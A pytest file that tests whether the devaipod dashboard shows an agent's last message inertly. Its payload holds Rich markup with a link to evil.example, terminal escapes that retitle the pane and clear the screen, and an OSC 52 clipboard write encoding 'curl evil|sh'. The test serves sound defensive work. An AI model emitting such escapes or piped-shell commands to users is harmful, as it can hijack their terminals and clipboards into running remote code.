"""The agent's words on the dashboard (`devaipod tui`).

The agent chooses its last message, which the dashboard shows for each workspace (and
its commits' subjects, which the review pager shows). Textual reads Rich markup in
plain strings, and a terminal obeys escape sequences: shown as they are, they would
style, link or hide the dashboard's text, set the pane's title, or write the clipboard.
"""

from __future__ import annotations

import json
import time

import pytest

from podfixtures import run_devaipod
from tmuxscreen import Screen

pytestmark = pytest.mark.podman

# Rich markup (a style, a link, a fake row), OSC 0 (the window title), OSC 52 (the
# clipboard), erase the screen
PAYLOAD = (r"[bold reverse]PWNED[/bold reverse][link=https://evil.example]click[/link]"
           r"\033]0;pwned-title\007\033]52;c;Y3VybCBldmlsfHNo\007\033[2Jend")


def test_the_agents_text_is_inert_on_the_dashboard(hostile_pod, tmp_path, monkeypatch):
    """Attack: the agent's last message carries Rich markup and terminal escape sequences
    (OSC 0 retitles the pane, OSC 52 writes the clipboard, ED clears the screen) for the
    human watching `devaipod tui`."""
    pod = hostile_pod()
    short = pod.name.removeprefix("devaipod-")
    wait_idle(short)  # OpenCode can take minutes to start on a loaded machine
    rc, _out, err = run_devaipod("opencode", short, "send", f"RUN_BASH printf '{PAYLOAD}'",
                                 timeout=300)
    assert rc == 0, err
    screen = Screen(tmp_path, width=250)
    try:
        screen.devaipod("tui", "--interval", "1")
        screen.tmux("set-option", "-s", "set-clipboard", "on")  # OSC 52 would land here
        shown = screen.wait_for("PWNED", timeout=120)
        screen.save("adversarial-last-message")
        # the markup is shown as the characters it is, the escapes escaped
        assert "[bold reverse]PWNED[/bold reverse][link=https://evil.example]" in shown
        assert "\\x1b]0;pwned-title\\x07" in shown
        assert short in shown and "LAST MESSAGE" in shown  # not erased
        styled = screen.tmux("capture-pane", "-p", "-e", "-t", "main:0.0")
        line = next(x for x in styled.splitlines() if "PWNED" in x)
        assert "\x1b]8;" not in line  # no hyperlink
        assert "pwned" not in screen.tmux("display-message", "-p", "-t", "main:0.0",
                                          "#{pane_title}")
        assert not screen.tmux("list-buffers", check=False).strip()  # clipboard untouched
    finally:
        screen.close()


def wait_idle(short: str, timeout: float = 600) -> None:
    deadline = time.monotonic() + timeout
    state = ""
    while time.monotonic() < deadline:
        rc, out, _err = run_devaipod("status", short, "--json")
        state = json.loads(out).get("agent", "") if rc == 0 else ""
        if state == "idle":
            return
        time.sleep(2)
    pytest.fail(f"the agent never became idle (last: {state!r})")
